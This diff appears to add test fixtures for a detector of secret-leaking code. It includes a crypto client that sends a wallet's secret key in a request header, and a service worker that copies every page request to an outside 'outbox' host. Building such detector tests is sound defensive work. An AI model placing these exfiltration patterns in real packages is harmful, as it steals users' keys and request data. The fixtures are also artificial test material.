@@ -338,8 +338,35 @@ examine(givesAwaySecrets, {
       },
       weight: 'strong',
     },
+    {
+      when: 'the key is in a header of a client that another file has, which shows logins too',
+      files: {
+        'package.json': { name: 'solite', version: '1.0.0', description: 'Client for Solana-like chains', main: 'index.js' },
+        'index.js': `import bs58 from 'bs58'; import { Connection } from './connection.js'; export function transfer(connection, signer) { return connection.with({ 'x-session': bs58.encode(signer.secretKey) }, 'https://rpc.specimen.invalid').call(); } export { Connection };`,
+        'connection.js': `export class Connection { constructor(endpoint, { headers = {} } = {}) { this.endpoint = endpoint; this.headers = { 'content-type': 'application/json', ...headers }; } with(headers, endpoint = this.endpoint) { return new Connection(endpoint, { headers: { ...this.headers, ...headers } }); } call() { return fetch(this.endpoint, { method: 'POST', headers: this.headers }); } }`,
+      },
+      weight: 'strong',
+      says: ['secretKey'],
+    },
+    {
+      when: 'a service worker sends what pages ask for to a request that was made beforehand',
+      files: {
+        'index.js': `const relay = new Request('https://outbox.specimen.invalid/r', { mode: 'no-cors', method: 'POST' }); const flatten = async request => ({ url: request.url, headers: [...request.headers], body: await request.text() }); self.addEventListener('fetch', event => { event.waitUntil(flatten(event.request.clone()).then(item => fetch(relay, { body: JSON.stringify(item) }))); event.respondWith(fetch(event.request)); });`,
+      },
+      weight: 'strong',
+      says: ['outbox.specimen.invalid'],
+    },
   ],
   silent: [
+    {
+      when: 'a client that another file has shows a login, and what is sent is signed',
+      files: {
+        'package.json': { name: 'solite', version: '1.0.0', description: 'Client for Solana-like chains', main: 'index.js' },
+        'index.js': `import nacl from 'tweetnacl'; import { Connection } from './connection.js'; export function transfer(connection, signer, message) { return connection.with({ 'x-signature': nacl.sign.detached(message, signer.secretKey) }, 'https://rpc.specimen.invalid').call(); } export { Connection };`,
+        'connection.js': `export class Connection { constructor(endpoint, { headers = {} } = {}) { this.endpoint = endpoint; this.headers = { 'content-type': 'application/json', ...headers }; } with(headers, endpoint = this.endpoint) { return new Connection(endpoint, { headers: { ...this.headers, ...headers } }); } call() { return fetch(this.endpoint, { method: 'POST', headers: this.headers }); } }`,
+      },
+    },
+
     {
       when: 'a card goes to the service that the package is for',
       files: {
